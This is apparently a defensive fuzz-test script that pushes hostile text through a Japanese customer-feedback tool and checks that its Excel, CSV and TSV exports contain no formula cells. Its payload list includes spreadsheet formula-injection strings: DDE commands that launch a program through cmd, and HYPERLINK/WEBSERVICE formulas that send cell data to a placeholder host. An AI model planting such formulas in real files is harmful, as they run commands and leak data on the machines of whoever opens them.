"""Adversarial text through import → analyze → topics → signals → coding → every writer.

Random and hostile strings (formula prefixes and payloads, DDE, control characters, NUL, bidi
overrides, zero-width characters, lone surrogates from JSON escapes, 32,767+ character cells,
emoji, full-width look-alikes) go into every field a customer or a user controls: the answer, the
customer id, a question header, an attribute name and value, a ticket subject and message, code
names and descriptions, coder names, memos and review notes. Then every writer runs (Excel with
and without masking, CSV in UTF-8 and CP932, coded segments, codebook CSV, the CLI's TSV files and
tables) and the output is checked: no formula cell anywhere (raw XML and openpyxl's reading), no
CSV/TSV cell that a spreadsheet would read as a formula, every run exits 0 or with a one-line
message (never an internal error).

    .venv/bin/python bench/fuzz_exports.py [--rounds 5] [--rows 400] [--seed 1]
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import random
import sys
import tempfile
import time
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from voc_app.cli import main  # noqa: E402
from voc_app.export.safe import FORMULA_PREFIXES  # noqa: E402

PAYLOADS = ['=HYPERLINK("http://x.example/?d="&A1,"開く")', "=WEBSERVICE(\"http://x.example/\"&ENCODEURL(F3))",
            "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1", "=IMPORTXML(A1,\"//a\")",
            "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "-@x", "==1", "=\u202eevil", "＝1+1"]
WORDS = ["配送が遅い", "とても満足", "解約したい", "友達に勧めた", "梱包が丁寧", "使い方がわからない", "二度と買わない",
         "値段が高い", "サポートが親切", "届いた瞬間に感動", "アプリが落ちる", "返品したい", "特になし"]
ODD = ["\u202e", "\u202d", "\u200b", "\u200d", "\ufeff", "\x01", "\x07", "\x0b", "\x0c", "\x1b", "\x7f", "\u2028",
       "😀", "👨‍👩‍👧", "ｶﾀｶﾅ", "\u3000", "\"", "'", ",", "\\", "\n", "\r\n", "<f>", "</t>", "&amp;", "]]>"]


def hostile(rng: random.Random, *, surrogates: bool = False, long: bool = False) -> str:
    parts = []
    if rng.random() < 0.6:
        parts.append(rng.choice(PAYLOADS))
    for _ in range(rng.randint(1, 4)):
        parts.append(rng.choice(WORDS) if rng.random() < 0.6 else rng.choice(ODD))
    if surrogates and rng.random() < 0.3:
        parts.insert(rng.randrange(len(parts) + 1), rng.choice(["\ud800", "\udfff", "\udc00x"]))
    if surrogates and rng.random() < 0.1:
        parts.append("\x00")
    s = "".join(parts)
    if long:
        s = s + "長文" * rng.randint(16_400, 17_000)
    return s


def field(rng: random.Random) -> str:
    """A short value for ids, headers and attributes: often a formula."""
    s = rng.choice(PAYLOADS) if rng.random() < 0.5 else rng.choice(WORDS)
    return s.replace("\n", " ").replace("\r", " ")[:60] or "x"


def write_inputs(d: Path, rng: random.Random, rows: int) -> list[Path]:
    survey = d / "survey.csv"
    with open(survey, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["回答ID", "顧客ID", "おすすめ度（0〜10）", field(rng) + "（属性）", "ご意見をお聞かせください " + field(rng)])
        for i in range(rows):
            w.writerow([f"R{i}", field(rng) + str(i % 50), rng.randint(0, 10), field(rng),
                        hostile(rng, long=rng.random() < 0.01).replace("\x00", "")])
    tickets = d / "tickets.jsonl"
    with open(tickets, "w", encoding="utf-8") as f:
        for i in range(rows // 4):
            # json.dumps writes lone surrogates and NUL as escapes: the reader gets them back
            t = {"id": 10_000 + i, "subject": hostile(rng, surrogates=True), "description": hostile(rng, surrogates=True),
                 "requester_id": field(rng) + str(i % 20), "created_at": "2025-04-01T10:00:00Z", "status": "open",
                 "comments": [{"author_id": 1, "public": True, "body": hostile(rng, surrogates=True),
                               "created_at": "2025-04-02T10:00:00Z"}]}
            f.write(json.dumps(t, ensure_ascii=True) + "\n")
    return [survey, tickets]


def formula_cells_xlsx(path: Path) -> int:
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as z:
        raw = sum(z.read(n).count(b"<f>") + z.read(n).count(b"<f ") for n in z.namelist()
                  if n.startswith("xl/worksheets/"))
    wb = load_workbook(path)
    parsed = sum(1 for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f")
    return raw + parsed


def formula_cells_text(path: Path | None, text: str | None = None, delimiter: str = ",", encoding: str = "utf-8-sig") -> int:
    if text is None:
        text = path.read_text(encoding=encoding, errors="replace")
    bad = 0
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                try:
                    float(cell)
                except ValueError:
                    bad += 1
    return bad


def run(argv: list[str], failures: list[str]) -> str:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as e:  # argparse
            code = e.code
    if code not in (0, 2) or "内部エラー" in err.getvalue():
        failures.append(f"{argv[0]}: exit {code}: {err.getvalue().strip()[:300]}")
    return out.getvalue()


def one_round(d: Path, rng: random.Random, rows: int) -> dict:
    failures: list[str] = []
    proj = d / "f.voc"
    run(["new", str(proj)], failures)
    for f in write_inputs(d, rng, rows):
        run(["import", str(proj), str(f), "--no-progress"], failures)
    run(["analyze", str(proj), "--workers", "1"], failures)
    run(["topics", str(proj), "--side", "all"], failures)
    coder = field(rng)
    codes = []
    for k in range(3):
        name = field(rng).replace("/", "／") + f"#{k}"
        codes.append(name)
        run(["codebook", str(proj), "add", name, "--description", hostile(rng), "--rule", rng.choice(["配送", "解約", "満足"])],
            failures)
    run(["autocode", str(proj)], failures)
    for vid in range(1, 30):
        run(["tag", str(proj), str(vid), rng.choice(codes), "--coder", coder], failures)
        run(["memo", str(proj), "verbatim", str(vid), hostile(rng)], failures)
    formulas = 0
    for name, args, check in [
        ("xlsx", ["export", str(proj), str(d / "a.xlsx")], lambda: formula_cells_xlsx(d / "a.xlsx")),
        ("xlsx masked", ["export", str(proj), str(d / "m.xlsx"), "--mask-pii"], lambda: formula_cells_xlsx(d / "m.xlsx")),
        ("csv utf-8", ["export", str(proj), str(d / "a.csv")], lambda: formula_cells_text(d / "a.csv")),
        ("csv cp932", ["export", str(proj), str(d / "b.csv"), "--encoding", "cp932"],
         lambda: formula_cells_text(d / "b.csv", encoding="cp932")),
        ("coded", ["coded", str(proj), str(d / "c.csv")], lambda: formula_cells_text(d / "c.csv")),
        ("codebook", ["codebook", str(proj), "export", str(d / "k.csv")], lambda: formula_cells_text(d / "k.csv")),
    ]:
        run(args, failures)
        path = Path(args[3] if args[0] == "codebook" else args[2])
        if path.exists():
            n = check()
            formulas += n
            if n:
                failures.append(f"{name}: {n} formula cells")
            path.unlink()
        else:
            failures.append(f"{name}: no file written")
    for args in (["signals", str(proj), "--format", "tsv"], ["topics", str(proj), "--format", "tsv"],
                 ["words", str(proj), "freq"], ["crosstab", str(proj), "--by", "question"]):
        n = formula_cells_text(None, run(args, failures), delimiter="\t")
        formulas += n
        if n:
            failures.append(f"{args[0]}: {n} formula cells in its table")
    src = d / "in.tsv"
    src.write_text("id\ttext\n" + "".join(f"{field(rng)}\t{hostile(rng).replace(chr(9), ' ').replace(chr(10), ' ').replace(chr(13), ' ')}\n"
                                          for _ in range(50)), encoding="utf-8")
    run(["classify", str(src), "--text-column", "text", "--out", str(d / "out.tsv")], failures)
    if (d / "out.tsv").exists():
        n = formula_cells_text(d / "out.tsv", delimiter="\t", encoding="utf-8")
        formulas += n
        if n:
            failures.append(f"classify: {n} formula cells")
    return {"failures": failures, "formulas": formulas}


def main_(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rounds", type=int, default=5)
    ap.add_argument("--rows", type=int, default=400)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args(argv)
    rng = random.Random(a.seed)
    t0 = time.perf_counter()
    total_fail, total_formulas = 0, 0
    for r in range(a.rounds):
        with tempfile.TemporaryDirectory() as d:
            res = one_round(Path(d), rng, a.rows)
        total_fail += len(res["failures"])
        total_formulas += res["formulas"]
        print(f"round {r + 1}: {a.rows} survey rows + {a.rows // 4} tickets, formula cells {res['formulas']}, "
              f"failures {len(res['failures'])}")
        for f in res["failures"][:10]:
            print("   ", f)
    print(f"{a.rounds} rounds in {time.perf_counter() - t0:.0f} s: formula cells written {total_formulas}, "
          f"crashes / internal errors / missing files {total_fail}")
    return 1 if total_fail or total_formulas else 0


if __name__ == "__main__":
    sys.exit(main_())
